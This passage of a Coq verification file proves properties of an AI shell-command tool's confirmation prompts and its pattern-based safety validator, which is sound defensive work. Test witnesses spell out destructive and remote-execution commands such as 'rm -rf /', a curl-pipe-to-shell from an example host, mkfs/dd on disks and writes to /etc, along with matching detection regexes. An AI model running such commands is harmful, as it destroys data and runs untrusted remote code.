    split; [exact Hs|]. revert Hruns. rewrite (ask_shown _ _ _ _ _ Hp Hv Hs).
    unfold trace.
    logic_cases args w result ra; intros Hruns; try discriminate;
      (split; [reflexivity|]); (split; [auto|]);
      intros Hcr; apply String.eqb_eq in Hcr; congruence.
  - intros (Hs & Hdry & Hex & Hcr).
    apply (ask_executed app args w result ra Hp Hv Hs Hdry Hex Hcr).
Qed.

(** Without the [--execute] flag a Critical command runs only after both
    prompts, two different ones, were accepted. *)
Lemma ask_critical_two_confirmations app args w result ra :
  parsed w = Some result ->
  Safety.validate (safety_validator app) (Parser.command result) = Some ra ->
  execute args = false ->
  Safety.risk_level ra = "critical" ->
  runs (trace (ask app args w)) = [(Parser.command result, 30)] ->
  prompts (trace (ask app args w))
  = [(execute_prompt, true); (critical_prompt, true)]
  /\ execute_prompt <> critical_prompt.
Proof.
  intros Hp Hv Hex Hcr Hruns.
  apply (ask_runs_iff app args w result ra Hp Hv) in Hruns
    as (Hs & Hdry & [Hx|Hce] & Hcc); [congruence|].
  specialize (Hcc Hcr). split; [|discriminate].
  rewrite (ask_shown _ _ _ _ _ Hp Hv Hs). unfold trace.
  apply String.eqb_eq in Hcr.
  logic_cases args w result ra; congruence.
Qed.

(** With the [--execute] flag a Critical command runs after the one
    prompt it gets was accepted, whatever its score. *)
Lemma ask_execute_flag_one_confirmation app args w result ra :
  parsed w = Some result ->
  Safety.validate (safety_validator app) (Parser.command result) = Some ra ->
  shows w (displayed args result ra) ->
  dry_run args = false ->
  execute args = true ->
  Safety.risk_level ra = "critical" ->
  confirm_critical w = Answered true ->
  runs (trace (ask app args w)) = [(Parser.command result, 30)]
  /\ prompts (trace (ask app args w)) = [(critical_prompt, true)].
Proof.
  intros Hp Hv Hs Hdry Hex Hcr Hcc. split.
  - apply (ask_runs_iff app args w result ra Hp Hv). auto.
  - rewrite (ask_shown _ _ _ _ _ Hp Hv Hs). unfold trace.
    apply String.eqb_eq in Hcr.
    logic_cases args w result ra; congruence.
Qed.

(** With the [--execute] flag and no answer to be had at the second
    prompt, a Critical command is not run: the prompt is put, raises, and
    [ask] ends in the handler with nothing recorded. *)
Lemma ask_execute_flag_unanswered app args w result ra e :
  parsed w = Some result ->
  Safety.validate (safety_validator app) (Parser.command result) = Some ra ->
  shows w (displayed args result ra) ->
  dry_run args = false ->
  execute args = true ->
  Safety.risk_level ra = "critical" ->
  confirm_critical w = PromptRaised e ->
  runs (trace (ask app args w)) = []
  /\ put (trace (ask app args w)) = [critical_prompt]
  /\ final (ask app args w) = app
  /\ status (ask app args w)
     = match console w (error_line e) with
       | Some e' => Raised e'
       | None => Exited 1
       end.
Proof.
  intros Hp Hv Hs Hdry Hex Hcr Hcc.
  rewrite (ask_shown _ _ _ _ _ Hp Hv Hs). unfold trace, final, status.
  apply String.eqb_eq in Hcr.
  logic_cases args w result ra; try congruence;
    injection Hcc as <-; auto.
Qed.

(** A dry run never runs the command. *)
Lemma ask_dry_run app args w :
  dry_run args = true -> runs (trace (ask app args w)) = [].
Proof.
  intros Hdry. unfold ask.
  destruct (console w (processing args)); [reflexivity|].
  destruct (parsed w) as [result|]; [|reflexivity].
  destruct (display_cases app args w result)
    as [(ra & _ & _ & ->)|(e & -> & _)]; [|reflexivity].
  rewrite bind_pure. unfold execution_logic. rewrite Hdry. reflexivity.
Qed.

(** C3.  The command [rm -rf /] is one [is_command_blocked] blocks
    (Critical, score 100); called with [--execute] for it, [ask] puts the
    Critical prompt and, that prompt accepted, runs the command. *)
Theorem ask_runs_blocked_command :
  Safety.is_command_blocked (safety_validator initial_app) "rm -rf /"
  = Some true
  /\ prompts (trace (ask initial_app force_args force_world))
     = [(critical_prompt, true)]
  /\ runs (trace (ask initial_app force_args force_world))
     = [("rm -rf /", 30)].
Proof. repeat split; reflexivity. Qed.

(** C6, as the code has it.  When the shell command of an [ask] that
    goes on to execute times out, [_execute_command] reports failure and
    prints "Command timed out"; the command was started once, with a
    timeout of 30, and is not started again; the command store is left as
    it was, no record being written; the history gets one entry, marked
    executed; and [ask] returns.  That [ask] goes on to execute means
    that the console showed what it was handed before, that it is no dry
    run, and that the prompts put were accepted. *)
Theorem ask_timeout
    (app : App) (args : Args) (w : World)
    (result : Parser.ParseResult) (ra : Safety.RiskAssessment) :
  parsed w = Some result ->
  Safety.validate (safety_validator app) (Parser.command result) = Some ra ->
  shows w (displayed args result ra) ->
  dry_run args = false ->
  execute args = true \/ confirm_execute w = Answered true ->
  (Safety.risk_level ra = "critical" -> confirm_critical w = Answered true) ->
  run w = TimeoutExpired ->
  snd (_execute_command (console w) (Parser.command result) (run w))
  = inr false
  /\ In (Printed "[red]Command timed out[/red]") (trace (ask app args w))
  /\ runs (trace (ask app args w)) = [(Parser.command result, 30)]
  /\ command_store (final (ask app args w)) = command_store app
  /\ context_manager (final (ask app args w))
     = Context.add_to_history (context_manager app) (query args)
         (Parser.command result) (now_history w) true
  /\ status (ask app args w) = Returned.
Proof.
  intros Hp Hv Hs Hdry Hex Hcr Hrun.
  destruct (ask_executed app args w result ra Hp Hv Hs Hdry Hex Hcr)
    as (Hruns & Hrest).
  specialize (Hrest false). rewrite Hrun in Hrest.
  destruct (Hrest eq_refl) as (Hfinal & Hstatus).
  rewrite Hrun. split; [reflexivity|]. split.
  - rewrite (ask_shown _ _ _ _ _ Hp Hv Hs). unfold execution_logic.
    rewrite Hdry, Hrun.
    destruct (String.eqb_spec (Safety.risk_level ra) "critical") as [He|He];
      [rewrite (Hcr He)|];
      (destruct Hex as [-> | Hce]; [|rewrite Hce; destruct (execute args)]);
      unfold trace; cbn; auto 10.
  - rewrite Hfinal. cbn. auto.
Qed.

Lemma ask_timeout_witness :
  command_store (final (ask initial_app timeout_args timeout_world))
  = Store.empty
  /\ runs (trace (ask initial_app timeout_args timeout_world))
     = [("sleep 60", 30)].
Proof.
  destruct (ask_timeout initial_app timeout_args timeout_world
              (translated "sleep 60")
              (Safety.mkRiskAssessment "low" 0 [] []))
    as (_ & _ & Hruns & Hstore & _).
  - reflexivity.
  - reflexivity.
  - repeat constructor.
  - reflexivity.
  - left. reflexivity.
  - discriminate.
  - reflexivity.
  - split; [exact Hstore | exact Hruns].
Defined.

(** C6, as stated, fails: after an [ask] whose command [sleep 60] timed
    out, the store holds no record at all, so none for that command with
    [success] false. *)
Lemma ask_timeout_writes_no_record :
  run timeout_world = TimeoutExpired
  /\ runs (trace (ask initial_app timeout_args timeout_world))
     = [("sleep 60", 30)]
  /\ ~ exists id row,
        Store.commands
          (command_store (final (ask initial_app timeout_args timeout_world)))
          !! id = Some row
        /\ Store.command row = "sleep 60"
        /\ Store.success row = false.
Proof.
  split; [reflexivity|]. split; [reflexivity|].
  intros (id & row & Hrow & _).
  change (command_store (final (ask initial_app timeout_args timeout_world)))
    with Store.empty in Hrow.
  unfold Store.empty in Hrow. cbn [Store.commands] in Hrow.
  rewrite lookup_empty in Hrow. discriminate.
Qed.

(** C7.  A Critical command whose first prompt is accepted and whose
    second prompt is declined: [ask] returns with nothing run and with
    the history as it was, no entry added. *)
Theorem ask_critical_decline_skips_history :
  prompts (trace (ask initial_app decline_args decline_world))
  = [(execute_prompt, true); (critical_prompt, false)]
  /\ runs (trace (ask initial_app decline_args decline_world)) = []
  /\ status (ask initial_app decline_args decline_world) = Returned
  /\ Context.history
       (context_manager (final (ask initial_app decline_args decline_world)))
     = Context.history (context_manager initial_app)
  /\ Context.history (context_manager initial_app) = [].
Proof. repeat split; reflexivity. Qed.

(** The other declines do add their entry: after a dry run or a declined
    first prompt the history ends with an entry marked not executed. *)
Lemma ask_skipped_history app args w result ra :
  parsed w = Some result ->
  Safety.validate (safety_validator app) (Parser.command result) = Some ra ->
  shows w (displayed args result ra) ->
  dry_run args = true
  \/ (execute args = false /\ confirm_execute w = Answered false) ->
  0 <= Context.max_history (context_manager app) ->
  last (Context.history (context_manager (final (ask app args w))))
  = Some (Context.mkHistoryItem (query args) (Parser.command result)
            (now_history w) false).
Proof.
  intros Hp Hv Hs Hskip Hmax.
  destruct (ask_skipped app args w result ra Hp Hv Hs Hskip) as (Hfinal & _).
  rewrite Hfinal. cbn [context_manager]. unfold Context.add_to_history.
  apply add_interaction_last. exact Hmax.
Qed.

(** A command that ran and succeeded gets two history entries, the first
    marked not executed, the second marked executed, and a stored record
    whose [executed] and [success] are both false. *)
Lemma ask_success_entries :
  Context.history
    (context_manager (final (ask initial_app list_args list_world)))
  = [ Context.mkHistoryItem "list files" "ls -la" 11 false;
      Context.mkHistoryItem "list files" "ls -la" 12 true ]
  /\ Store.get_command
       (command_store (final (ask initial_app list_args list_world))) 1
     = Some (Store.mkStoredCommand 1 "ls -la" "list files" "" "low" 10
               false false "").
Proof. split; reflexivity. Qed.

(** A query with a closing tag that closes nothing: the first line
    raises, and the exception leaves [ask] before anything is
    generated. *)
Lemma ask_query_with_closing_tag :
  ask initial_app (mkArgs "list [/b] files" true true true false) echo_world
  = (initial_app, [], Raised "closing tag '[/b]' doesn't match any open tag").
Proof. reflexivity. Qed.

(** A command whose output holds such a tag: it runs, the display of its
    output raises, so does the line of either handler, and nothing is
    recorded. *)
Lemma ask_output_with_closing_tag :
  runs (trace (ask initial_app echo_args echo_world)) = [("echo '[/b]'", 30)]
  /\ final (ask initial_app echo_args echo_world) = initial_app
  /\ status (ask initial_app echo_args echo_world)
     = Raised "closing tag '[/b]' doesn't match any open tag".
Proof. repeat split; reflexivity. Qed.

End MainFacts.

(* ===================================================================== *)
(** * Further properties of [src/core/safety.py] *)
(* ===================================================================== *)

Section SafetyMore.
Import Safety SafetySpec.

Lemma total_app l1 l2 : total (l1 ++ l2) = total l1 + total l2.
Proof. induction l1 as [|x l1 IH]; cbn; lia. Qed.

Lemma matched_points_ge command (table : list (string * PatternConfig)) entry :
  In entry table -> matches command entry = true ->
  weight (risk (snd entry)) * 10
  <= total (map (fun r => weight r * 10)
                (map (fun e => risk (snd e))
                     (List.filter (matches command) table))).
Proof.
  induction table as [|e table IH]; cbn [List.filter]; [intros []|].
  intros [-> | Hin] Hm.
  - rewrite Hm. cbn.
    assert (0 <= total (map (fun r => weight r * 10)
                          (map (fun e => risk (snd e))
                               (List.filter (matches command) table)))).
    { apply total_nonneg, List.Forall_forall. intros x Hx.
      apply in_map_iff in Hx as (r & <- & _). pose proof (weight_pos r). lia. }
    lia.
  - specialize (IH Hin Hm). destruct (matches command e); cbn; [|exact IH].
    pose proof (weight_pos (risk (snd e))). lia.
Qed.

Lemma search_true_matches pattern config command :
  Re.search pattern command true = Some true ->
  matches command (pattern, config) = true.
Proof. intros H. unfold matches. cbn [fst]. rewrite H. reflexivity. Qed.

(** What a matching rule of the table brings about in the assessment. *)
Lemma matched_rule_facts v command a pattern config :
  well_formed v = true ->
  validate v command = Some a ->
  In (pattern, config) (dangerous_patterns v) ->
  Re.search pattern command true = Some true ->
  In pattern (blocked_patterns a)
  /\ In (message config) (warnings a)
  /\ Z.min (weight (risk config) * 10) 100 <= score a
  /\ exists level,
       risk_level a = value level /\ weight (risk config) <= weight level.
Proof.
  intros Hwf Ha Hin Hs.
  pose proof (search_true_matches pattern config command Hs) as Hm.
  destruct (validate_unfold v command Hwf) as (ws & _ & _ & Hv).
  cbv zeta in Hv. rewrite Hv in Ha. injection Ha as <-.
  cbn [blocked_patterns warnings score risk_level].
  assert (Hf : In (pattern, config) (matched_rules v command)).
  { apply filter_In. auto. }
  pose proof (matched_points_ge command _ _ Hin Hm) as Hge. cbn [snd] in Hge.
  fold (matched_rules v command) in Hge.
  pose proof (fired_count_range v command) as Hfc.
  unfold pattern_points, severities.
  set (pts := total _) in *. set (raw := pts + _ * 5).
  assert (Hraw : weight (risk config) * 10 <= raw) by (unfold raw; lia).
  split; [|split; [|split]].
  - apply in_map_iff. exists (pattern, config). auto.
  - apply in_or_app. left. apply in_map_iff. exists (pattern, config). auto.
  - lia.
  - eexists. split; [reflexivity|].
    destruct (Z.geb_spec raw 80); [destruct (risk config); cbn; lia|].
    destruct (Z.geb_spec raw 60); [destruct (risk config); cbn in *; lia|].
    destruct (Z.geb_spec raw 30); [destruct (risk config); cbn in *; lia|].
    destruct (risk config); cbn in *; try lia.
    pose proof (weight_pos (max_severity (map (fun e => risk (snd e))
                                              (matched_rules v command)))).
    lia.
Qed.

(** X2.  Every rule of the table whose pattern is found in the command is
    reported, its pattern among the blocked patterns and its message
    among the warnings, and the level of the assessment is never below
    the severity of that rule. *)
Theorem matched_rule_is_reported
    (v : SafetyValidator) (command : string) (a : RiskAssessment)
    (pattern : string) (config : PatternConfig) :
  well_formed v = true ->
  validate v command = Some a ->
  In (pattern, config) (dangerous_patterns v) ->
  Re.search pattern command true = Some true ->
  In pattern (blocked_patterns a)
  /\ In (message config) (warnings a)
  /\ exists level,
       risk_level a = value level
       /\ _risk_level_score (risk config) <= _risk_level_score level.
Proof.
  intros Hwf Ha Hin Hs.
  destruct (matched_rule_facts v command a pattern config Hwf Ha Hin Hs)
    as (Hb & Hw & _ & level & Hl & Hle).
  split; [exact Hb|]. split; [exact Hw|].
  exists level. split; [exact Hl|].
  rewrite <- !weight_is_risk_level_score. exact Hle.
Qed.

Lemma matched_rule_is_reported_witness :
  exists a,
    validate default_validator "chmod 777 notes.txt" = Some a
    /\ In "chmod\s+777" (blocked_patterns a)
    /\ In "Setting world-writable permissions" (warnings a)
    /\ risk_level a = "high".
Proof.
  exists (mkRiskAssessment "high" 70
            ["Setting world-writable permissions"] ["chmod\s+777"]).
  split; [vm_compute; reflexivity|].
  destruct (matched_rule_is_reported default_validator "chmod 777 notes.txt"
              (mkRiskAssessment "high" 70
                 ["Setting world-writable permissions"] ["chmod\s+777"])
              "chmod\s+777"
              (mkConfig HIGH "Setting world-writable permissions")
              eq_refl eq_refl)
    as (Hb & Hw & _).
  - vm_compute. auto 10.
  - vm_compute. reflexivity.
  - split; [exact Hb|]. split; [exact Hw|]. reflexivity.
Defined.

(** X3.  One matching Critical rule is enough: the score is 100, the
    level Critical, and [is_command_blocked] answers true. *)
Theorem critical_rule_blocks
    (v : SafetyValidator) (command : string) (a : RiskAssessment)
    (pattern : string) (config : PatternConfig) :
  well_formed v = true ->
  validate v command = Some a ->
  In (pattern, config) (dangerous_patterns v) ->
  Re.search pattern command true = Some true ->
  risk config = CRITICAL ->
  score a = 100
  /\ risk_level a = "critical"
  /\ is_command_blocked v command = Some true.
Proof.
  intros Hwf Ha Hin Hs Hc.
  destruct (matched_rule_facts v command a pattern config Hwf Ha Hin Hs)
    as (_ & _ & Hsc & level & Hl & Hle).
  rewrite Hc in *. cbn in Hsc, Hle.
  pose proof (validate_score_range v command a Hwf Ha) as Hr.
  assert (H100 : score a = 100) by lia.
  assert (Hcrit : risk_level a = "critical").
  { rewrite Hl. destruct level; cbn in Hle; try lia. reflexivity. }
  split; [exact H100|]. split; [exact Hcrit|].
  unfold is_command_blocked. rewrite Ha. cbn [mbind option_bind].
  rewrite Hcrit, H100. reflexivity.
Qed.

Lemma critical_rule_blocks_witness :
  is_command_blocked default_validator "curl http://get.example.sh | SH"
  = Some true.
Proof.
  destruct (critical_rule_blocks default_validator
              "curl http://get.example.sh | SH"
              (mkRiskAssessment "critical" 100
                 ["Downloading and executing remote script"]
                 ["curl\s+.*\|\s*sh"])
              "curl\s+.*\|\s*sh"
              (mkConfig CRITICAL "Downloading and executing remote script")
              eq_refl eq_refl)
    as (_ & _ & Hb).
  - vm_compute. auto 10.
  - vm_compute. reflexivity.
  - reflexivity.
  - exact Hb.
Defined.

(** X1.  The score of an assessment lies between 0 and 100. *)
Theorem score_within_bounds
    (v : SafetyValidator) (command : string) (a : RiskAssessment) :
  well_formed v = true -> validate v command = Some a -> 0 <= score a <= 100.
Proof. apply validate_score_range. Qed.

Lemma score_within_bounds_witness :
  exists a,
    validate default_validator "mkfs /dev/sda1 && dd of=/dev/sda" = Some a
    /\ 0 <= score a <= 100.
Proof.
  exists (mkRiskAssessment "critical" 100
            ["Writing directly to device";
             "Filesystem creation (destructive)";
             "Command contains multiple operations";
             "Operating on system directory: /dev";
             "Command contains potentially suspicious characters"]
            ["dd\s+.*of=/dev/"; "mkfs\s+"]).
  split; [vm_compute; reflexivity|].
  apply (score_within_bounds default_validator
           "mkfs /dev/sda1 && dd of=/dev/sda");
    vm_compute; reflexivity.
Defined.

(** X4.  [is_command_blocked] answers true exactly when the score of the
    assessment is at least 90: from 80 on the level is Critical anyway,
    so the test on the level never decides. *)
Theorem blocked_iff_score_90
    (v : SafetyValidator) (command : string) (a : RiskAssessment) :
  well_formed v = true ->
  validate v command = Some a ->
  is_command_blocked v command = Some true <-> 90 <= score a.
Proof.
  intros Hwf Ha. rewrite (is_command_blocked_score v command a Hwf Ha).
  split.
  - intros H. injection H as H. apply Z.geb_le in H. exact H.
  - intros H. f_equal. apply Z.geb_le. exact H.
Qed.

Lemma blocked_iff_score_90_witness :
  is_command_blocked default_validator "sudo chmod 777 /etc/passwd && ls"
  = Some true.
Proof.
  apply (blocked_iff_score_90 default_validator
           "sudo chmod 777 /etc/passwd && ls"
           (mkRiskAssessment "critical" 90
              ["Setting world-writable permissions";
               "Command contains multiple operations";
               "Command requires elevated privileges";
               "Operating on system directory: /etc";
               "Command contains potentially suspicious characters"]
              ["chmod\s+777"])).
  - vm_compute. reflexivity.
  - vm_compute. reflexivity.
  - cbn. lia.
Defined.

(** *** The shipped rule table *)

Lemma shipped_rule_at_least_medium entry :
  In entry _load_dangerous_patterns -> 3 <= weight (risk (snd entry)).
Proof.
  intros Hin. cbn in Hin.
  repeat (destruct Hin as [<- | Hin]; [cbn; lia|]). destruct Hin.
Qed.

Lemma shipped_points_ge_30 v command :
  constructed v ->
  matched_rules v command <> [] -> 30 <= pattern_points v command.
Proof.
  intros (Ht & _) Hne. unfold pattern_points, severities.
  destruct (matched_rules v command) as [|e l] eqn:Hm; [congruence|].
  assert (Hin : In e (matched_rules v command)) by (rewrite Hm; left; reflexivity).
  unfold matched_rules in Hin. apply filter_In in Hin as [Hin Hmatch].
  rewrite Ht in Hin.
  pose proof (matched_points_ge command _ _ Hin Hmatch) as Hge.
  pose proof (shipped_rule_at_least_medium e Hin).
  unfold matched_rules in Hm. rewrite Ht in Hm. rewrite Hm in Hge. lia.
Qed.

(** X5.  With the shipped rule table the level follows from the score
    alone: Low below 30, Medium from 30, High from 60, Critical from 80.
    Any rule match puts the score at 30 or more, so an assessment at
    level Low has no blocked pattern. *)
Theorem shipped_level_by_score
    (v : SafetyValidator) (command : string) (a : RiskAssessment) :
  constructed v ->
  validate v command = Some a ->
  risk_level a =
    (if (score a >=? 80)%Z then "critical"
     else if (score a >=? 60)%Z then "high"
     else if (score a >=? 30)%Z then "medium"
     else "low")
  /\ (risk_level a = "low" -> blocked_patterns a = []).
Proof.
  intros Hc Ha.
  destruct (validate_unfold v command (constructed_well_formed v Hc))
    as (ws & _ & _ & Hv).
  cbv zeta in Hv. rewrite Hv in Ha. injection Ha as <-.
  cbn [risk_level score blocked_patterns].
  pose proof (shipped_points_ge_30 v command Hc) as H30.
  pose proof (fired_count_range v command) as Hfc.
  set (raw := pattern_points v command + fired_count v command * 5) in *.
  assert (Hlow : raw < 30 -> matched_rules v command = []).
  { intros Hlt. destruct (matched_rules v command) eqn:Hm; [reflexivity|].
    assert (30 <= pattern_points v command) by (apply H30; congruence).
    unfold raw in Hlt. lia. }
  destruct (Z.geb_spec raw 80) as [H80|H80].
  { destruct (Z.geb_spec (Z.min raw 100) 80); [|lia].
    split; [reflexivity | discriminate]. }
  destruct (Z.geb_spec (Z.min raw 100) 80); [lia|].
  destruct (Z.geb_spec raw 60) as [H60|H60].
  { destruct (Z.geb_spec (Z.min raw 100) 60); [|lia].
    split; [reflexivity | discriminate]. }
  destruct (Z.geb_spec (Z.min raw 100) 60); [lia|].
  destruct (Z.geb_spec raw 30) as [H30'|H30'].
  { destruct (Z.geb_spec (Z.min raw 100) 30); [|lia].
    split; [reflexivity | discriminate]. }
  destruct (Z.geb_spec (Z.min raw 100) 30); [lia|].
  unfold severities. rewrite (Hlow H30'). split; reflexivity.
Qed.

Lemma shipped_level_by_score_witness :
  exists a,
    validate default_validator "sudo dd x* > /usr; `id`" = Some a
    /\ blocked_patterns a = [] /\ score a = 30 /\ risk_level a = "medium".
Proof.
  exists (mkRiskAssessment "medium" 30
            ["Command contains multiple operations";
             "Redirecting output to root-level directory";
             "Using wildcards with destructive commands";
             "Command requires elevated privileges";
             "Operating on system directory: /usr";
             "Command contains potentially suspicious characters"] []).
  split; [vm_compute; reflexivity|].
  destruct (shipped_level_by_score default_validator "sudo dd x* > /usr; `id`"
              (mkRiskAssessment "medium" 30
                 ["Command contains multiple operations";
                  "Redirecting output to root-level directory";
                  "Using wildcards with destructive commands";
                  "Command requires elevated privileges";
                  "Operating on system directory: /usr";
                  "Command contains potentially suspicious characters"] []))
    as [Hl _].
  - repeat split; reflexivity.
  - vm_compute. reflexivity.
  - split; [reflexivity|]. split; [reflexivity | exact Hl].
Defined.

(** X6.  With the shipped rule table a command in which [>> /etc/] is
    found (in any letter case, any white space after [>>]) matches the
    rule for overwriting as well as the rule for appending; its score is
    100, its level Critical, and [is_command_blocked] answers true. *)
Theorem append_to_etc_is_blocked (v : SafetyValidator) (command : string) :
  constructed v ->
  Re.search ">>\s*/etc/" command true = Some true ->
  exists a,
    validate v command = Some a
    /\ In ">\s*/etc/" (blocked_patterns a)
    /\ In ">>\s*/etc/" (blocked_patterns a)
    /\ score a = 100
    /\ risk_level a = "critical"
    /\ is_command_blocked v command = Some true.
Proof.
  intros Hc Hs. pose proof (constructed_well_formed v Hc) as Hwf.
  destruct Hc as (Ht & _).
  destruct (validate_unfold v command Hwf) as (ws & _ & _ & Hv).
  cbv zeta in Hv. exists (mkRiskAssessment
    (value (if (pattern_points v command + fired_count v command * 5 >=? 80)%Z
            then CRITICAL
            else if (pattern_points v command + fired_count v command * 5 >=? 60)%Z
            then HIGH
            else if (pattern_points v command + fired_count v command * 5 >=? 30)%Z
            then MEDIUM else max_severity (severities v command)))
    (Z.min (pattern_points v command + fired_count v command * 5) 100)
    (map (fun e => message (snd e)) (matched_rules v command) ++ ws)
    (map fst (matched_rules v command))).
  split; [exact Hv|]. cbn [blocked_patterns score risk_level].
  set (c13 := mkConfig MEDIUM "Modifying system configuration").
  set (c12 := mkConfig HIGH "Overwriting system configuration").
  pose proof (search_true_matches _ c13 command Hs) as H13.
  pose proof (append_rule_implies_overwrite_rule command c13 c12 H13) as H12.
  assert (Hin12 : In (">\s*/etc/", c12) (matched_rules v command)).
  { apply filter_In. split; [rewrite Ht; cbn; auto 20 | exact H12]. }
  assert (Hin13 : In (">>\s*/etc/", c13) (matched_rules v command)).
  { apply filter_In. split; [rewrite Ht; cbn; auto 20 | exact H13]. }
  assert (Hpts : 100 <= pattern_points v command).
  { unfold pattern_points, severities, matched_rules. rewrite Ht.
    change _load_dangerous_patterns
      with (firstn 11 _load_dangerous_patterns
            ++ [(">\s*/etc/", c12); (">>\s*/etc/", c13)]).
    rewrite List.filter_app, !List.map_app, total_app.
    cbn [List.filter]. rewrite H12, H13. cbn [map total snd risk weight c12 c13].
    assert (0 <= total (map (fun r => weight r * 10)
                          (map (fun e => risk (snd e))
                               (List.filter (matches command)
                                  (firstn 11 _load_dangerous_patterns))))).
    { apply total_nonneg, List.Forall_forall. intros x Hx.
      apply in_map_iff in Hx as (r & <- & _). pose proof (weight_pos r). lia. }
    lia. }
  pose proof (fired_count_range v command) as Hfc.
  set (raw := pattern_points v command + fired_count v command * 5) in *.
  split; [apply in_map_iff; exists (">\s*/etc/", c12); auto|].
  split; [apply in_map_iff; exists (">>\s*/etc/", c13); auto|].
  assert (H100 : Z.min raw 100 = 100) by lia.
  assert (Hcrit : (raw >=? 80)%Z = true) by (apply Z.geb_le; lia).
  split; [exact H100|]. rewrite Hcrit. split; [reflexivity|].
  unfold is_command_blocked. rewrite Hv. cbn [mbind option_bind risk_level score].
  fold raw. rewrite Hcrit, H100. reflexivity.
Qed.

Lemma append_to_etc_is_blocked_witness :
  is_command_blocked default_validator "echo x >> /etc/hosts" = Some true.
Proof.
  destruct (append_to_etc_is_blocked default_validator "echo x >> /etc/hosts")
    as (a & _ & _ & _ & _ & _ & Hb).
  - repeat split; reflexivity.
  - vm_compute. reflexivity.
  - exact Hb.
Defined.

(** *** Letter case *)

Lemma lower_idempotent c : PyStr.lower (PyStr.lower c) = PyStr.lower c.
Proof. destruct c as [[] [] [] [] [] [] [] []]; reflexivity. Qed.

Lemma atom_matches_lower a c :
  Re.atom_matches true a (PyStr.lower c) = Re.atom_matches true a c.
Proof.
  destruct a as [x| | |]; cbn [Re.atom_matches].
  - rewrite lower_idempotent. reflexivity.
  - destruct c as [[] [] [] [] [] [] [] []]; reflexivity.
  - destruct c as [[] [] [] [] [] [] [] []]; reflexivity.
  - destruct c as [[] [] [] [] [] [] [] []]; reflexivity.
Qed.

Lemma star_map f ok (k k' : list ascii -> bool) s :
  (forall c, ok (f c) = ok c) ->
  (forall s, k (map f s) = k' s) ->
  Re.star ok k (map f s) = Re.star ok k' s.
Proof.
  intros Hok Hk. induction s as [|c s IH]; cbn [map Re.star].
  - pose proof (Hk []) as H0. cbn [map] in H0. rewrite H0. reflexivity.
  - change (f c :: map f s) with (map f (c :: s)). rewrite (Hk (c :: s)).
    rewrite Hok, IH. reflexivity.
Qed.

Lemma match_here_lower r :
  forall s,
  Re.match_here true r (map PyStr.lower s) = Re.match_here true r s.
Proof.
  induction r as [|[a q] r IH]; intros s; [reflexivity|].
  cbn [Re.match_here].
  destruct q.
  - destruct s as [|c s]; cbn [map]; [reflexivity|].
    rewrite atom_matches_lower, IH. reflexivity.
  - rewrite IH. destruct s as [|c s]; cbn [map]; [reflexivity|].
    rewrite atom_matches_lower, IH. reflexivity.
  - apply star_map; [apply atom_matches_lower | exact IH].
  - destruct s as [|c s]; cbn [map]; [reflexivity|].
    rewrite atom_matches_lower. f_equal.
    apply star_map; [apply atom_matches_lower | exact IH].
Qed.

Lemma search_from_lower r s :
  Re.search_from true r (map PyStr.lower s) = Re.search_from true r s.
Proof.
  induction s as [|c s IH]; cbn [map Re.search_from].
  - reflexivity.
  - change (PyStr.lower c :: map PyStr.lower s) with (map PyStr.lower (c :: s)).
    rewrite match_here_lower, IH. reflexivity.
Qed.

Lemma chars_lower s :
  PyStr.chars (PyText.lower s) = map PyStr.lower (PyStr.chars s).
Proof.
  induction s as [|c s IH]; cbn; [reflexivity|].
  unfold PyStr.chars in IH. rewrite IH. reflexivity.
Qed.

Lemma matches_lower command entry :
  matches (PyText.lower command) entry = matches command entry.
Proof.
  unfold matches, Re.search.
  destruct (Re.compile (fst entry)) as [r|]; cbn; [|reflexivity].
  rewrite chars_lower, search_from_lower. reflexivity.
Qed.

(** X7.  On commands written in the characters of the model, the code
    points 0..255, the rule scan ignores letter case: a command and its
    lower-cased form get the same blocked patterns, and the part of the
    score that comes from rules is the same.  (The heuristic checks do
    look at the case.  Beyond code point 255 the two part ways: [re]
    matches a dotted capital I against [i], and [str.lower] does not
    turn it into [i].) *)
Theorem rules_ignore_case (v : SafetyValidator) (command : string) :
  well_formed v = true ->
  exists a a',
    validate v command = Some a
    /\ validate v (PyText.lower command) = Some a'
    /\ blocked_patterns a' = blocked_patterns a
    /\ pattern_points v (PyText.lower command) = pattern_points v command.
Proof.
  intros Hwf.
  destruct (validate_unfold v command Hwf) as (ws & _ & _ & Hv).
  destruct (validate_unfold v (PyText.lower command) Hwf) as (ws' & _ & _ & Hv').
  cbv zeta in Hv, Hv'. rewrite Hv, Hv'. eexists. eexists.
  split; [reflexivity|]. split; [reflexivity|].
  cbn [blocked_patterns].
  assert (Hm : matched_rules v (PyText.lower command) = matched_rules v command).
  { unfold matched_rules. apply filter_ext. intros e. apply matches_lower. }
  unfold pattern_points, severities. rewrite Hm. split; reflexivity.
Qed.

Lemma rules_ignore_case_witness :
  exists a a',
    validate default_validator "RM -RF /" = Some a
    /\ validate default_validator "rm -rf /" = Some a'
    /\ blocked_patterns a' = blocked_patterns a.
Proof.
  destruct (rules_ignore_case default_validator "RM -RF /")
    as (a & a' & Ha & Ha' & Hb & _).
  - vm_compute. reflexivity.
  - exists a, a'. split; [exact Ha|]. split; [exact Ha' | exact Hb].
Defined.

(** X8.  Score, level, blocked patterns and the number of warnings of an
    assessment do not depend on the order in which a validator iterates
    its two sets. *)
Theorem assessment_independent_of_set_order
    (v1 v2 : SafetyValidator) (command : string) :
  constructed v1 -> constructed v2 ->
  exists a1 a2,
    validate v1 command = Some a1 /\ validate v2 command = Some a2
    /\ score a1 = score a2
    /\ risk_level a1 = risk_level a2
    /\ blocked_patterns a1 = blocked_patterns a2
    /\ length (warnings a1) = length (warnings a2).
Proof. apply validate_order_independent. Qed.

Lemma assessment_independent_of_set_order_witness :
  exists a1 a2,
    validate default_validator "cat /usr/share/dict/words > /etc/motd" = Some a1
    /\ validate usr_first_validator "cat /usr/share/dict/words > /etc/motd"
       = Some a2
    /\ score a1 = score a2 /\ risk_level a1 = risk_level a2.
Proof.
  destruct (assessment_independent_of_set_order default_validator
              usr_first_validator "cat /usr/share/dict/words > /etc/motd")
    as (a1 & a2 & H1 & H2 & Hs & Hl & _).
  - repeat split; reflexivity.
  - split; [reflexivity|]. split; [|reflexivity]. cbn. apply perm_swap.
  - exists a1, a2. auto.
Defined.

(** X9.  Adding rules to the table of a validator never lowers the score
    it gives a command. *)
Theorem more_rules_never_lower_score
    (v v' : SafetyValidator) (command : string) (a a' : RiskAssessment) :
  well_formed v = true -> well_formed v' = true ->
  sublist (dangerous_patterns v) (dangerous_patterns v') ->
  system_paths v = system_paths v' ->
  destructive_commands v = destructive_commands v' ->
